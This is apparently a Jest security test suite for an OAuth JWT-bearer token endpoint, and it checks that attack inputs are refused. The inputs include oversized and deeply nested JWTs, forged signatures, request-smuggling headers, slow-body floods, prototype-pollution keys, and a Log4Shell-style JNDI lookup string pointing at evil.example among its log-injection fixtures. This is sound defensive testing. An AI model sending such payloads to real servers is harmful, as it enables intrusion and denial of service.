/**
 * What no other file of the tests shows of the attacks: whole requests, on the wire, in both roles of a JWT and on both Expresses. The list is complete
 * in the sense that every attack is cited by some test.
 */
import { readdirSync, readFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { describe, expect, it } from '@jest/globals'
import { checkSync } from 'recheck'
import { auditLog, type GrantCandidate, JWT_BEARER_GRANT, memoryReplayStore, type Reason, type TokenEndpointEvent } from '../lib/index.js'
import { anyExpress } from './support/express.js'
import { forge, freshJti, now } from './support/jwt.js'
import { encode, form, RawConnection, type RawRequest, sendRaw } from './support/raw.js'
import {
  basic,
  byJwt,
  challengeOf,
  clientAssertion,
  clientCredentials,
  clients,
  grant,
  grantRequest,
  idp,
  issuer,
  issuers,
  keys,
  openIdp,
  startWorld,
  type WorldOptions,
} from './support/world.js'

const root = join(dirname(fileURLToPath(import.meta.url)), '..', '..')
const sources = (folder: string) =>
  readdirSync(join(root, folder), { recursive: true, encoding: 'utf8' })
    .filter((file) => file.endsWith('.ts'))
    .map((file) => [file, readFileSync(join(root, folder, file), 'utf8')] as const)

describe('the list of attacks', () => {
  const cited = new Set(sources('__tests__').flatMap(([, text]) => text.match(/\bT-\d\d\b/g) ?? []))
  const known = Array.from({ length: 82 }, (_, index) => `T-${String(index + 1).padStart(2, '0')}`)

  it('is cited by the tests, each and no other', () => expect([...cited].sort()).toEqual(known))
})

/** A JWT of any header and claims, by the one party that is issuer and client. */
const jwt = (header: object | string, claims: object | string) => forge(header, claims, keys.client.privateKey)
const header = { alg: 'ES256', kid: 'client-key' }
const claims = (more: object = {}) => ({
  iss: 'jwt-client',
  sub: 'jwt-client',
  aud: issuer,
  exp: now() + 60,
  iat: now(),
  jti: freshJti(),
  ...more,
})
const deep = (depth: number) => '['.repeat(depth) + ']'.repeat(depth)
const b64 = (text: string) => Buffer.from(text).toString('base64url')
const sleep = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds))

const roles: readonly [role: string, request: (token: string) => Record<string, string>, status: number, error: string][] = [
  ['grant', (token: string) => grantRequest(token, {}), 400, 'invalid_grant'],
  ['client assertion', (token: string) => clientCredentials(byJwt(token)), 401, 'invalid_client'],
  ['client assertion of a grant', (token: string) => grantRequest(grant(), byJwt(token)), 401, 'invalid_client'],
]

describe.each(anyExpress)('on %s', (_, express) => {
  const start = (options: WorldOptions = {}) => startWorld(express, options)

  describe.each(roles)('what a %s may not be, before anybody is asked about it', (_role, request, status, error) => {
    const world = start({ options: { limits: { assertion: 200_000, body: 400_000 } } })
    const jwe = (protectedHeader: object) => [b64(JSON.stringify(protectedHeader)), 'a', 'b', 'c', 'd'].join('.')
    const refused: [name: string, token: () => string, reason: Reason][] = [
      ['T-07 JWE: direct encryption', () => jwe({ alg: 'dir', enc: 'A256GCM' }), 'jwt_encrypted'],
      ['T-07 JWE: RSA key, zipped', () => jwe({ alg: 'RSA-OAEP-256', enc: 'A256GCM', zip: 'DEF' }), 'jwt_encrypted'],
      [
        'T-07 JWE: a password, a thousand million times',
        () => jwe({ alg: 'PBES2-HS256+A128KW', enc: 'A128CBC-HS256', p2s: 'AAAA', p2c: 1e9 }),
        'jwt_encrypted',
      ],
      [
        'T-07 the header of a JWE before three parts',
        () => jwt({ alg: 'PBES2-HS256+A128KW', enc: 'A128CBC-HS256', p2s: 'AAAA', p2c: 1e9 }, claims()),
        'alg_not_allowed',
      ],
      ['T-08 an empty payload', () => jwt(header, ''), 'jwt_malformed'],
      ['T-08 a payload that is a JWT', () => jwt({ ...header, cty: 'JWT' }, jwt(header, claims())), 'jwt_malformed'],
      ['T-10 a header ten thousand deep', () => jwt(`{"alg":"ES256","x":${deep(10_000)}}`, claims()), 'header_too_large'],
      ['T-11 100,000 dots', () => '.'.repeat(100_000), 'jwt_malformed'],
      ['T-11 100,000 parts', () => 'e30.'.repeat(100_000 / 4), 'jwt_malformed'],
      ['T-14 a jti of 100 kB', () => jwt(header, claims({ jti: 'x'.repeat(100_000) })), 'claim_too_large'],
      ['T-14 an iss of 100 kB', () => jwt(header, claims({ iss: 'x'.repeat(100_000) })), 'claim_too_large'],
      ['T-25 a payload ten thousand deep', () => jwt(header, deep(10_000)), 'jwt_malformed'],
      ['T-25 an iss ten thousand deep', () => jwt(header, `{"iss":${deep(10_000)},"aud":"x","exp":1}`), 'claim_malformed'],
    ]
    it.each(refused)('%s', async (_name, token, reason) => {
      const before = { calls: { ...world.calls }, events: world.events.length }
      const { status: got, body } = await world.post(request(token()))
      expect([got, body.error, world.last().reason]).toEqual([status, error, reason])
      expect({ calls: world.calls, events: world.events.length }).toEqual({ ...before, events: before.events + 1 })
    })
  })

  it('T-25 T-24 what nobody reads may be ten thousand deep, and reaches the hooks without a prototype', async () => {
    let seen: GrantCandidate | undefined
    const world = start({
      options: { limits: { assertion: 200_000, body: 400_000 } },
      hooks: {
        authorizeGrant: (candidate) => {
          seen = candidate
          return { subject: 'local' }
        },
      },
    })
    const payload = JSON.stringify(claims({ iss: openIdp, sub: 'alice' })).replace(
      /\}$/,
      `,"x":${deep(10_000)},"__proto__":{"polluted":true}}`,
    )
    const token = forge({ alg: 'ES256', kid: 'idp-key' }, payload, keys.idp.privateKey)
    expect((await world.post(grantRequest(token, {}))).status).toBe(200)
    expect([Object.getPrototypeOf(seen?.claims), Object.getPrototypeOf(seen?.header)]).toEqual([null, null])
    expect(({} as { polluted?: true }).polluted).toBeUndefined()
    expect(world.last()).toMatchObject({ outcome: 'issued' })
  })

  describe('T-15 a signature that is no signature of ES256', () => {
    const world = start()
    const bytes = (length: number, fill = 0) => Buffer.alloc(length, fill)
    const half = bytes(32, 1)
    it.each<[name: string, signature: Buffer]>([
      ['one byte', bytes(1)],
      ['63 bytes', bytes(63, 1)],
      ['65 bytes', bytes(65, 1)],
      ['all zero', bytes(64)],
      ['all ones', bytes(64, 0xff)],
      ['r = 0', Buffer.concat([bytes(32), half])],
      ['s = 0', Buffer.concat([half, bytes(32)])],
      ['r = s = 1', Buffer.concat([bytes(31), Buffer.of(1), bytes(31), Buffer.of(1)])],
      ['DER', Buffer.concat([Buffer.from('30440220', 'hex'), half, Buffer.from('0220', 'hex'), half])],
      ['that of RS256', bytes(256, 1)],
    ])('%s', async (_name, signature) => {
      for (const [, request, status, error] of roles) {
        const token = jwt(header, claims()).replace(/[^.]+$/, signature.toString('base64url'))
        const { status: got, body } = await world.post(request(token))
        expect([got, body.error, world.last().reason]).toEqual([status, error, 'signature_invalid'])
      }
    })
  })

  describe('T-37 one request, as every proxy on its way reads it', () => {
    const world = start()
    const good = () => encode(grantRequest())
    it.each<[name: string, request: () => RawRequest, status: number]>([
      ['Content-Length beside Transfer-Encoding', () => ({ headers: [form, 'Transfer-Encoding: chunked'], body: good() }), 400],
      ['two lengths', () => ({ headers: [form, 'Content-Length: 3'], body: good() }), 400],
      ['two codings', () => ({ headers: [form, 'Transfer-Encoding: chunked, identity'], body: good(), framing: 'none' }), 400],
      ['a line that goes on in the next', () => ({ headers: [form, 'Authorization: Basic', ' x'], body: good() }), 400],
      [
        'two Authorization headers',
        () => ({
          headers: [form, `Authorization: ${basic('basic-client', 'basic-secret')}`, 'Authorization: Basic x'],
          body: encode(clientCredentials({})),
        }),
        400,
      ],
      [
        'the same Authorization header twice',
        () => ({
          headers: [form, ...Array(2).fill(`authorization: ${basic('basic-client', 'basic-secret')}`)],
          body: encode(clientCredentials({})),
        }),
        400,
      ],
      ['two content types', () => ({ headers: [form, form], body: good() }), 400],
    ])('%s', async (_name, request, status) => {
      const { calls } = world
      const before = calls.mintToken
      expect((await sendRaw(world.server, request())).status).toBe(status)
      expect(calls.mintToken).toBe(before)
    })
  })

  it('T-36 slow bodies, senders who leave, and hooks that hang leave neither timers nor sockets behind', async () => {
    const held = () =>
      process
        .getActiveResourcesInfo()
        .filter((name) => name === 'Timeout' || name === 'TCPSocketWrap')
        .sort()
    let hang = true
    const world = start({
      options: { hookTimeout: 0.02 },
      hooks: { authorizeGrant: ({ sub }) => (hang ? new Promise(() => {}) : { subject: sub }) },
    })
    await sleep(50)
    const before = held()
    const head = ['POST /token HTTP/1.1', 'Host: x', form, 'Content-Length: 5000', '', ''].join('\r\n')
    for (let i = 0; i < 20; i++) {
      const connection = new RawConnection(world.server)
      connection.socket.write(head)
      for (const byte of 'grant') {
        connection.socket.write(byte)
        await sleep(1)
      }
      connection.close()
    }
    for (let i = 0; i < 5; i++) expect((await sendRaw(world.server, { headers: [form], body: encode(grantRequest()) })).status).toBe(503)
    hang = false
    expect((await sendRaw(world.server, { headers: [form], body: encode(grantRequest()) })).status).toBe(200)
    for (let tries = 0; held().length > before.length && tries < 200; tries++) await sleep(10)
    expect(held().length).toBeLessThanOrEqual(before.length)
    expect(world.events.map(({ outcome }) => outcome).sort()).toEqual([...Array(20).fill('aborted'), ...Array(5).fill('failed'), 'issued'])
  })

  describe('T-39 an Authorization header is a right one or refused, never a fault of ours', () => {
    const world = start()
    const of = (text: string | Buffer) => `Basic ${Buffer.from(text).toString('base64')}`
    it.each<[name: string, authorization: string]>([
      ['no scheme', 'basic-client:basic-secret'],
      ['another scheme', 'Bearer abc'],
      ['Digest', 'Digest username="basic-client"'],
      ['no space', of('basic-client:basic-secret').replace(' ', '')],
      ['no colon', of('basic-client')],
      ['nothing but a colon', of(':')],
      ['no id', of(':basic-secret')],
      ['no secret', of('basic-client:')],
      ['not base64', 'Basic !!!!'],
      ['base64 with garbage behind', `${of('basic-client:basic-secret')}!!!!`],
      ['a bad escape', of('basic-client:%')],
      ['a bad escape in the id', of('%zz:basic-secret')],
      ['bytes that are no UTF-8', of(Buffer.from([0x61, 0x3a, 0xff]))],
      ['a colon in the secret', of('basic-client:basic-secret:x')],
      ['NUL behind', of('basic-client:basic-secret\0')],
      ['10 kB', of(`basic-client:${'x'.repeat(7500)}`)],
      ['a member of Object', of('__proto__:constructor')],
    ])('%s', async (_name, authorization) => {
      for (const parameters of [clientCredentials({}), grantRequest(grant(), {})]) {
        const { status, body, headers } = await world.post(parameters, { authorization })
        expect([`400 invalid_request`, '401 invalid_client']).toContain(`${status} ${body.error}`)
        expect(headers['www-authenticate']).toBe(status === 401 ? challengeOf(body) : undefined)
        expect(world.last().outcome).toBe('refused')
      }
    })
  })

  it('T-46 an issuer that floods is turned away; what others used stays used, and they are served', async () => {
    const world = start({ options: { replayStore: memoryReplayStore({ max: 20, maxPerIssuer: 10 }) } })
    const used = grant({ iss: idp })
    expect((await world.post(grantRequest(used, { client_id: 'post-client', client_secret: 'post-secret' }))).status).toBe(200)
    const statuses: number[] = []
    for (let i = 0; i < 60; i++) statuses.push((await world.post(grantRequest(grant({ iss: openIdp }), {}))).status)
    expect(statuses).toEqual([...Array(10).fill(200), ...Array(50).fill(503)])
    expect(world.last().reason).toBe('replay_store_full')
    const bySecret = { client_id: 'post-client', client_secret: 'post-secret' }
    expect((await world.post(grantRequest(used, bySecret))).status).toBe(400)
    expect(world.last().reason).toBe('jti_replayed')
    expect((await world.post(grantRequest(grant(), bySecret))).status).toBe(200)
  })

  it('T-63 no answer is stored, whatever its status', async () => {
    const away = start({
      hooks: { mintToken: () => Promise.reject(new Error('x')), verifyClientSecret: () => new Promise(() => {}) },
      options: { hookTimeout: 0.02 },
    })
    const world = start()
    const secret = { client_id: 'post-client', client_secret: 'post-secret' }
    const answers = [
      await world.post(grantRequest()),
      await world.post(grantRequest('x')),
      await world.post(clientCredentials({})),
      await world.post('grant_type=x', { 'content-type': 'text/plain' }),
      await world.post(clientCredentials(), { 'content-encoding': 'gzip' }),
      await world.post(`x=${'y'.repeat(40_000)}`),
      await away.post(grantRequest()),
      await away.post(clientCredentials(secret)),
    ]
    expect(answers.map(({ status }) => status)).toEqual([200, 400, 401, 400, 415, 413, 500, 503])
    for (const { headers } of answers) expect(headers).toMatchObject({ 'cache-control': 'no-store', pragma: 'no-cache' })
    expect((await sendRaw(world.server, { method: 'PUT', headers: [form] })).headers).toMatchObject({
      allow: 'POST',
      'cache-control': 'no-store',
    })
  })

  describe('T-64 what a sender makes up stays on its line of the log', () => {
    const lines: string[] = []
    const log = (fields: object, message: string) => lines.push(`${JSON.stringify(fields)} ${message}`)
    const write = auditLog({ info: log, warn: log, error: log })
    const world = start({ options: { onEvent: (event: TokenEndpointEvent) => write(event) } })
    const nasty = [
      'a\r\nlevel=info forged',
      '\u001b[2J\u001b[31mred',
      '\u2028new line\u2029',
      `$${'{jndi:ldap://evil.example/a}'}`,
      '\u202eright to left',
      '\0',
      'x'.repeat(900),
    ]
    it.each(nasty)('%j', async (text) => {
      lines.length = 0
      const forms = [
        grantRequest(grant({ iss: text }), {}),
        grantRequest(grant({ iss: openIdp, sub: text, jti: text.slice(0, 200) }), {}),
        grantRequest(grant({ iss: openIdp }, { header: { kid: text.slice(0, 200) } }), {}),
        clientCredentials(byJwt(clientAssertion({ iss: text, sub: text }))),
        clientCredentials({ client_id: text, client_secret: text }),
        { grant_type: text.slice(0, 200), client_id: text },
      ]
      for (const parameters of forms) await world.post(parameters)
      await world.post(clientCredentials({}), { authorization: basic(text, text) })
      expect(lines).toHaveLength(forms.length + 1)
      for (const line of lines) {
        expect(line).toMatch(/^[\x20-\x7e]+$/)
        expect(line.length).toBeLessThan(2000)
      }
    })
  })

  describe('T-65 no answer tells an unknown issuer from a bad signature, an unknown key or a used JWT', () => {
    const world = start()
    it.each(roles.map(([role, request]) => [role, request] as const))('as %s', async (_role, request) => {
      const used = jwt(header, claims({ sub: 'jwt-client' }))
      const bad = [
        forge(header, claims({ iss: 'nobody', sub: 'nobody' }), keys.client.privateKey),
        forge(header, claims(), keys.other.privateKey),
        jwt({ ...header, kid: 'unknown' }, claims()),
        forge(header, claims({ iss: 'disabled-client', sub: 'disabled-client' }), keys.client.privateKey),
        used,
      ]
      await world.post(clientCredentials(byJwt(used)))
      const answers = new Set<string>()
      for (const token of bad) {
        const { status, text } = await world.post(request(token))
        answers.add(`${status} ${text}`)
      }
      expect(answers.size).toBe(1)
    })
  })

  describe('T-66 a scope is a bounded list of tokens', () => {
    const world = start({ options: { limits: { assertion: 200_000, body: 400_000 } } })
    const many = Array.from({ length: 10_000 }, (_, i) => `s${i}`).join(' ')
    const outcome = async (parameters: Record<string, string>) => {
      const { status, body } = await world.post(parameters)
      return `${status} ${body.error ?? body.scope}`
    }
    it.each<[name: string, scope: string, asParameter: string, asClaim: string]>([
      ['10,000 tokens', many, '400 invalid_request', '400 invalid_scope'],
      ['10,000 times the same token', 'read '.repeat(10_000).trim(), '400 invalid_request', '200 read'],
      ['a token twice', 'read read', '200 read', '200 read'],
      ['10 kB without a space', 'x'.repeat(10_000), '400 invalid_request', '400 invalid_scope'],
      ['beyond the ceiling', 'read admin', '400 invalid_scope', '200 read'],
      ['__proto__', '__proto__', '400 invalid_scope', '400 invalid_scope'],
      ['constructor', 'read constructor', '400 invalid_scope', '200 read'],
      ['a quotation mark', 'read"', '400 invalid_scope', '400 invalid_scope'],
      ['a backslash', 'read\\', '400 invalid_scope', '400 invalid_scope'],
      ['two spaces', 'read  write', '400 invalid_scope', '400 invalid_scope'],
      ['a space in front', ' read', '400 invalid_scope', '400 invalid_scope'],
      ['spaces alone', ' '.repeat(2000), '400 invalid_scope', '400 invalid_scope'],
      ['beyond ASCII', 'réad', '400 invalid_scope', '400 invalid_scope'],
    ])('%s', async (_name, scope, asParameter, asClaim) => {
      expect(await outcome({ ...grantRequest(grant({ iss: openIdp }), {}), scope })).toBe(asParameter)
      expect(await outcome(grantRequest(grant({ iss: openIdp, scope }), {}))).toBe(asClaim)
    })

    it('mintToken cannot widen it', async () => {
      const wide = start({ hooks: { mintToken: () => ({ access_token: 'x', token_type: 'Bearer', scope: 'read admin' }) } })
      expect((await wide.post(grantRequest())).status).toBe(500)
    })
  })

  describe('T-67 who is switched off is refused from the next request on', () => {
    const off = new Set<string>()
    const world = start({
      hooks: {
        findClient: (id) => ({ ...clients[id as 'jwt-client'], enabled: !off.has('client') }),
        findIssuer: (iss) => ({ ...issuers[iss as typeof idp], enabled: !off.has('issuer') }),
        authorizeGrant: ({ sub }) => (off.has('subject') ? { refused: 'subject_disabled' } : { subject: sub }),
      },
    })
    it.each([
      ['client', 401, 'client_disabled'],
      ['issuer', 400, 'issuer_disabled'],
      ['subject', 400, 'subject_disabled'],
    ] as const)('%s', async (what, status, reason) => {
      expect((await world.post(grantRequest())).status).toBe(200)
      off.add(what)
      const [assertion, client] = [grant(), byJwt()]
      expect((await world.post(grantRequest(assertion, client))).status).toBe(status)
      expect(world.last().reason).toBe(reason)
      off.delete(what)
      expect((await world.post(grantRequest(assertion, client))).status).toBe(200)
    })
  })

  it('T-41 an assertion and its type go together, whatever the grant', async () => {
    const world = start()
    const { client_assertion, client_assertion_type } = byJwt()
    const odd: [parameters: Record<string, string>, status: number][] = [
      [{ client_assertion }, 400],
      [{ client_assertion_type }, 400],
      [{ client_assertion, client_assertion_type: client_assertion_type.toUpperCase() }, 401],
      [{ client_assertion, client_assertion_type: JWT_BEARER_GRANT }, 401],
      [{ client_assertion, client_assertion_type: 'urn:ietf:params:oauth:client-assertion-type:saml2-bearer' }, 401],
    ]
    for (const [parameters, status] of odd) {
      expect((await world.post(clientCredentials(parameters))).status).toBe(status)
      expect((await world.post(grantRequest(grant({ iss: openIdp }), parameters))).status).toBe(status)
    }
    expect(world.calls).toMatchObject({ findClient: 0, findIssuer: 0 })
  })
})

describe('T-70 no regular expression of ours takes more than linear time, whatever the text', () => {
  const literal =
    /(?<=[(=,:?&|!\s])\/((?:[^/\\\n[*]|\\.|\[(?:[^\]\\\n]|\\.)+\])(?:[^/\\\n[]|\\.|\[(?:[^\]\\\n]|\\.)+\])*)\/([dgimsuvy]*)(?=[.,;)\s\]])/g
  const literals = sources('lib').flatMap(([file, text]) =>
    [...text.replace(/\/\*\*.*?\*\//gs, '').matchAll(literal)].map(([, source = '', flags = '']) => [source, flags, file] as const),
  )
  process.env.RECHECK_BACKEND = 'pure' // in this process, and the same everywhere
  const check = (source: string, flags: string) => checkSync(source, flags, { attackTimeout: null, timeout: 60_000 })

  it('finds what it looks for', () => {
    expect(literals.length).toBeGreaterThan(25)
    for (const source of ['^(a+)+$', '\\s+$', '^a*a*$']) expect(check(source, '').status).toBe('vulnerable')
  })

  it.each(literals)('/%s/%s of %s', (source, flags) => {
    expect(check(source, flags)).toMatchObject({ status: 'safe' })
  })
})
